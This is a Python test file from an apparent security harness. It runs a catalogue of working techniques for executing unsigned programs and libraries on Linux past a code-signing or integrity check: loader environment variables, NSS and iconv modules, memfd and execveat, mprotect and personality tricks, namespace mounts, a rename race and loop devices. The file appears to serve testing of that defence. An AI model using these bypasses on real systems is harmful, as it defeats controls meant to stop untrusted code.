# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks of whoever dropped a program: every way to execute a file that nobody signed."""

import ctypes
import mmap
import os
import subprocess
import sys
from pathlib import Path

from arena import CODE, WORD, attack, call, call_code, libc, run, syscall

LOADER = "/lib64/ld-linux-x86-64.so.2"
READ, WRITE, EXEC = mmap.PROT_READ, mmap.PROT_WRITE, mmap.PROT_EXEC
SHARED, PRIVATE = mmap.MAP_SHARED, mmap.MAP_PRIVATE
READ_IMPLIES_EXEC = 0x0400000
MFD_HUGETLB = 0x4
NR_REMAP_FILE_PAGES, NR_EXECVEAT, NR_PKEY_MPROTECT = 216, 322, 329
AT_EMPTY_PATH = 0x1000


def mapped(fd, prot, flags=PRIVATE, length=4096):
    """Address of a new mapping of an open file."""
    return call("mmap", None, length, prot, flags, fd, 0)


@attack("root", "user")
def static_program(scene):
    """A static program, dropped and run by its path."""
    return scene.runs(scene.payload("static"))


@attack("root", "user")
def dynamic_program(scene):
    """A dynamic program, dropped and run by its path."""
    return scene.runs(scene.payload("dynamic"))


@attack("root", "user")
def through_the_loader(scene):
    """ld.so given an unsigned program as its argument."""
    return scene.runs(LOADER, scene.payload("dynamic"))


@attack("root", "user")
def preloaded_library(scene):
    """LD_PRELOAD puts an unsigned library into a signed program."""
    return scene.runs("/bin/true", env={"LD_PRELOAD": str(scene.payload("lib.so"))})


@attack("root", "user")
def audit_library(scene):
    """LD_AUDIT puts an unsigned library into a signed program."""
    return scene.runs("/bin/true", env={"LD_AUDIT": str(scene.payload("lib.so"))})


@attack("root", "user")
def library_path(scene):
    """LD_LIBRARY_PATH offers an unsigned library under a signed one's name."""
    scene.payload("lib.so", called="libselinux.so.1")
    return scene.runs("/bin/ls", "/", env={"LD_LIBRARY_PATH": str(scene.directory)})


@attack("root", "user")
def dlopened_library(scene):
    """A signed interpreter dlopens an unsigned library."""
    code = f"import ctypes; ctypes.CDLL({str(scene.payload('lib.so'))!r})"
    return scene.runs(sys.executable, "-c", code)


@attack("root", "user")
def character_set(scene):
    """iconv loads an unsigned module for a character set."""
    scene.payload("lib.so", called="evil.so")
    scene.file("gconv-modules", "module EVIL// INTERNAL evil 1\nmodule INTERNAL EVIL// evil 1\n")
    return scene.runs("iconv", "-f", "EVIL", "-t", "UTF-8", "/dev/null", env={"GCONV_PATH": str(scene.directory)})


@attack("root")
def name_service(scene):
    """An unsigned name service module, which every program that asks for a user loads."""
    library, conf = Path("/usr/lib/x86_64-linux-gnu/libnss_attack.so.2"), Path("/etc/nsswitch.conf")
    before = conf.read_bytes()
    library.write_bytes(scene.payload("lib.so").read_bytes())
    conf.write_text("passwd: attack files\ngroup: files\n", encoding="ascii")
    try:
        return scene.runs("getent", "passwd", "nobody-at-all")
    finally:
        conf.write_bytes(before)
        library.unlink()


@attack("root", "user")
def openssl_provider(scene):
    """openssl loads an unsigned provider."""
    scene.payload("lib.so", called="evil.so")
    return scene.runs("openssl", "list", "-provider-path", scene.directory, "-provider", "evil",
                      "-providers")


@attack("root", "user")
def mapped_executable(scene):
    """mmap of an unsigned file with PROT_EXEC, then a jump into it."""
    with open(scene.file("code", CODE), "rb") as file:
        address = scene.tried(mapped, file.fileno(), READ | EXEC)
    return address and call_code(address)


@attack("root", "user")
def mapped_shared_executable(scene):
    """The same, shared and writable, so that the code comes after the mapping."""
    with open(scene.file("code", b"\x90" * 4096), "r+b") as file:
        address = scene.tried(mapped, file.fileno(), READ | WRITE | EXEC, SHARED)
    if address:
        ctypes.memmove(address, CODE, len(CODE))
    return address and call_code(address)


@attack("root", "user")
def mapped_then_protected(scene):
    """mmap of an unsigned file for reading, made executable by mprotect."""
    with open(scene.file("code", CODE), "rb") as file:
        address = mapped(file.fileno(), READ)
    return scene.tried(call, "mprotect", address, 4096, READ | EXEC) is not None and call_code(address)


@attack("root", "user")
def mapped_then_pkey_protected(scene):
    """The same through pkey_mprotect, which is another system call."""
    with open(scene.file("code", CODE), "rb") as file:
        address = mapped(file.fileno(), READ)
    arguments = ctypes.c_void_p(address), ctypes.c_size_t(4096), ctypes.c_long(READ | EXEC)
    done = scene.tried(syscall, NR_PKEY_MPROTECT, *arguments, ctypes.c_long(-1))
    return done is not None and call_code(address)


@attack("root", "user")
def read_implies_exec(scene):
    """The personality that makes every readable mapping executable, then a plain read-only mmap."""
    call("personality", ctypes.c_ulong(READ_IMPLIES_EXEC))
    with open(scene.file("code", CODE), "rb") as file:
        address = scene.tried(mapped, file.fileno(), READ)
    return address and call_code(address)


@attack("root", "user")
def read_implies_exec_later(scene):
    """The same personality, and mprotect to readable of what was mapped without any access."""
    with open(scene.file("code", CODE), "rb") as file:
        address = mapped(file.fileno(), 0)
    call("personality", ctypes.c_ulong(READ_IMPLIES_EXEC))
    return scene.tried(call, "mprotect", address, 4096, READ) is not None and call_code(address)


@attack("root", "user")
def read_implies_exec_remapped(scene):
    """The same personality, and remap_file_pages of what was mapped for reading."""
    with open(scene.file("code", CODE * 2), "r+b") as file:
        address = mapped(file.fileno(), READ, SHARED, 2 * len(CODE))
    call("personality", ctypes.c_ulong(READ_IMPLIES_EXEC))
    none = ctypes.c_long(0)
    done = scene.tried(syscall, NR_REMAP_FILE_PAGES, ctypes.c_void_p(address), ctypes.c_long(len(CODE)), none,
                       ctypes.c_long(1), none)
    return done is not None and call_code(address)


def run_descriptor(scene, fd):
    """Whether execveat of an open file runs the payload."""
    reader, writer = os.pipe()
    child = os.fork()
    if not child:
        os.dup2(writer, 1)
        words = (ctypes.c_char_p * 2)(b"payload", None)
        libc.syscall(ctypes.c_long(NR_EXECVEAT), ctypes.c_long(fd), ctypes.c_char_p(b""), words, None,
                     ctypes.c_long(AT_EMPTY_PATH))
        os.write(1, f"execveat: {os.strerror(ctypes.get_errno())}".encode())
        os._exit(1)
    os.close(writer)
    with open(reader, "rb") as file:
        said = file.read().decode()
    os.waitpid(child, 0)
    scene.say(said)
    return WORD in said


@attack("root", "user")
def anonymous_file(scene):
    """A program in a memfd, executed by its descriptor."""
    fd = os.memfd_create("payload", 0)
    os.write(fd, scene.payload("static").read_bytes())
    return run_descriptor(scene, fd)


@attack("root", "user")
def anonymous_file_by_path(scene):
    """A program in a memfd, executed by its name in /proc."""
    fd = os.memfd_create("payload", 0)
    os.write(fd, scene.payload("static").read_bytes())
    return scene.runs(f"/proc/{os.getpid()}/fd/{fd}")


@attack("root", "user")
def deleted_file(scene):
    """A program that has no name any more, executed by its descriptor."""
    path = scene.payload("static")
    fd = os.open(path, os.O_RDONLY)
    path.unlink()
    return run_descriptor(scene, fd)


@attack("root", "user")
def unnamed_file(scene):
    """A program in a file that never had a name (O_TMPFILE)."""
    fd = os.open(scene.directory, os.O_TMPFILE | os.O_RDWR, 0o755)
    os.write(fd, scene.payload("static").read_bytes())
    other = os.open(f"/proc/self/fd/{fd}", os.O_PATH)
    os.close(fd)
    return run_descriptor(scene, other)


@attack("root")
def anonymous_huge_file(scene):
    """Code in a memfd of huge pages, which have no attributes at all, mapped executable."""
    pages = "/proc/sys/vm/nr_hugepages"
    scene.shell(f"echo 8 > {pages}")
    fd = os.memfd_create("payload", MFD_HUGETLB)
    os.ftruncate(fd, 2 << 20)
    address = mapped(fd, READ | WRITE, SHARED, 2 << 20)
    ctypes.memmove(address, CODE, len(CODE))
    code = scene.tried(mapped, fd, READ | EXEC, PRIVATE, 2 << 20)
    return code and call_code(code)


@attack("root", "user")
def shared_memory_segment(scene):
    """Code in a System V segment, attached executable."""
    segment = call("shmget", 0, 4096, 0o1700)       # IPC_PRIVATE, IPC_CREAT
    libc.shmat.restype = ctypes.c_void_p
    try:
        address = call("shmat", segment, None, 0)
        ctypes.memmove(address, CODE, len(CODE))
        code = scene.tried(call, "shmat", segment, None, 0o100000)      # SHM_EXEC
        return code and call_code(code)
    finally:
        call("shmctl", segment, 0, None)            # IPC_RMID


@attack("root", "user")
def private_map_written(scene):
    """A signed library mapped writable and executable for oneself, and written there."""
    fd = os.open("/lib/x86_64-linux-gnu/libc.so.6", os.O_RDONLY)
    code = scene.tried(mapped, fd, READ | WRITE | EXEC)
    if code:
        ctypes.memmove(code, CODE, len(CODE))
    return code and call_code(code)


@attack("root", "user")
def anonymous_memory(scene):
    """Memory of the process itself, writable and executable, as a compiler of the moment makes it."""
    code = scene.tried(mapped, -1, READ | WRITE | EXEC, PRIVATE | mmap.MAP_ANONYMOUS)
    if code:
        ctypes.memmove(code, CODE, len(CODE))
    return code and call_code(code)


@attack("root")
def shared_memory_by_its_mapping(scene):
    """A program in shared anonymous memory, executed by its name in /proc/PID/map_files."""
    data = scene.payload("static").read_bytes()
    size = len(data) + -len(data) % mmap.PAGESIZE
    address = mapped(-1, READ | WRITE, SHARED | mmap.MAP_ANONYMOUS, size)
    ctypes.memmove(address, data, len(data))
    return scene.runs(f"/proc/{os.getpid()}/map_files/{address:x}-{address + size:x}")


@attack("root", "user")
def shared_memory_directory(scene):
    """A program in /dev/shm."""
    path = scene.payload("static", "/dev/shm", f"payload-{os.getuid()}")
    try:
        return scene.runs(path)
    finally:
        path.unlink()


@attack("root", "user")
def own_namespace(scene):
    """A program on a tmpfs of the attacker's own user and mount namespace."""
    path, place = scene.payload("static"), scene.folder("place")
    script = f"mount -t tmpfs x {place} && cp {path} {place}/x && exec {place}/x"
    return scene.runs("unshare", "-Urm", "sh", "-c", script)


@attack("root", "user")
def overlay_in_namespace(scene):
    """An overlay over /usr of the attacker's own namespace, with an unsigned program on top."""
    upper, work = scene.folder("upper"), scene.folder("work")
    merged = scene.folder("merged")
    scene.payload("static", upper, "hello")
    script = (f"mount -t overlay x -o lowerdir=/usr/bin,upperdir={upper},workdir={work},userxattr {merged}"
              f" && exec {merged}/hello")
    return scene.runs("unshare", "-Urm", "sh", "-c", script)


@attack("root")
def fresh_file_systems(scene):
    """A program on tmpfs and ramfs that root has just mounted."""
    through = []
    for kind in ("tmpfs", "ramfs"):
        place = scene.folder(kind)
        scene.shell(f"mount -t {kind} x {place}")
        if scene.runs(scene.payload("static", place)):
            through.append(kind)
        scene.shell(f"umount {place}")
    return through


@attack("root")
def script_on_huge_pages(scene):
    """A script on a hugetlbfs that root has just mounted."""
    scene.shell("echo 8 > /proc/sys/vm/nr_hugepages")
    place, text = scene.folder("huge"), b"#!/bin/sh\necho " + WORD.encode() + b"\nexit\n"
    scene.shell(f"mount -t hugetlbfs x {place}")
    try:
        fd = os.open(place / "script", os.O_RDWR | os.O_CREAT, 0o755)
        os.ftruncate(fd, 2 << 20)
        address = mapped(fd, READ | WRITE, SHARED, 2 << 20)
        ctypes.memmove(address, text, len(text))
        libc.munmap(ctypes.c_void_p(address), ctypes.c_size_t(2 << 20))
        os.close(fd)
        return scene.runs(place / "script")
    finally:
        run(f"umount -l {place}")


@attack("root", "user")
def script(scene):
    """A script, dropped and run by its path."""
    return scene.runs(scene.file("script", f"#!/bin/sh\necho {WORD}\n"))


@attack("root", "user")
def script_with_interpreter(scene):
    """A script whose interpreter is the attacker's."""
    return scene.runs(scene.file("script", f"#!{scene.payload('static')}\n"))


@attack("root", "user")
def file_mapped_before_written(scene):
    """An empty new file is let through; mapped by its creator, its verdict is remembered, and then
    the program is written through the same descriptor, which stays open."""
    path = scene.directory / "new"
    path.unlink(missing_ok=True)
    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o755)
    scene.tried(mapped, fd, READ | EXEC)
    os.write(fd, scene.payload("dynamic").read_bytes())
    return scene.runs(LOADER, path)


@attack("root", "user")
def library_mapped_before_written(scene):
    """The same with a file that has no name when it is mapped, as a library of a signed program."""
    fd = os.open(scene.directory, os.O_TMPFILE | os.O_RDWR, 0o755)
    scene.tried(mapped, fd, READ | EXEC)
    os.write(fd, scene.payload("lib.so").read_bytes())
    return scene.runs("/bin/true", env={"LD_PRELOAD": f"/proc/{os.getpid()}/fd/{fd}"})


@attack("root", "user")
def hard_link(scene):
    """An unsigned program under a second name, beside a signed one's."""
    path = scene.payload("static")
    os.link(path, scene.directory / "hello")
    return scene.runs(scene.directory / "hello")


@attack("root", "user", seconds=90)
def rename_race(scene):
    """A signed and an unsigned program change places all the time while they are executed."""
    good, evil = scene.directory / "good", scene.payload("static")
    os.symlink("/bin/true", good)
    code = ("import ctypes,sys\nlibc=ctypes.CDLL(None)\nwhile True: "
            "libc.syscall(316,-100,sys.argv[1].encode(),-100,sys.argv[2].encode(),2)")
    with subprocess.Popen([sys.executable, "-c", code, str(good), str(evil)]) as swapper:
        try:
            for _ in range(60):
                if scene.runs(good):
                    return True
        finally:
            swapper.kill()
    return False


@attack("root")
def block_device_as_library(scene):
    """A library read from a block device: what is no regular file is never appraised."""
    path = scene.payload("lib.so")
    os.truncate(path, 1 << 20)
    device = scene.shell(f"losetup -f --show {path}").strip()
    try:
        return scene.runs("/bin/true", env={"LD_PRELOAD": device})
    finally:
        scene.shell(f"losetup -d {device}")


@attack("root")
def block_device_as_program(scene):
    """The same for a whole program, by ld.so."""
    path = scene.payload("dynamic")
    os.truncate(path, 1 << 20)
    device = scene.shell(f"losetup -f --show {path}").strip()
    try:
        return scene.runs(LOADER, device)
    finally:
        scene.shell(f"losetup -d {device}")


@attack("root", "user")
def own_copy_of_the_loader(scene):
    """An unsigned loader runs an unsigned program."""
    loader = scene.file("loader", open(LOADER, "rb").read() + b"x")
    return scene.runs(loader, scene.payload("dynamic"))
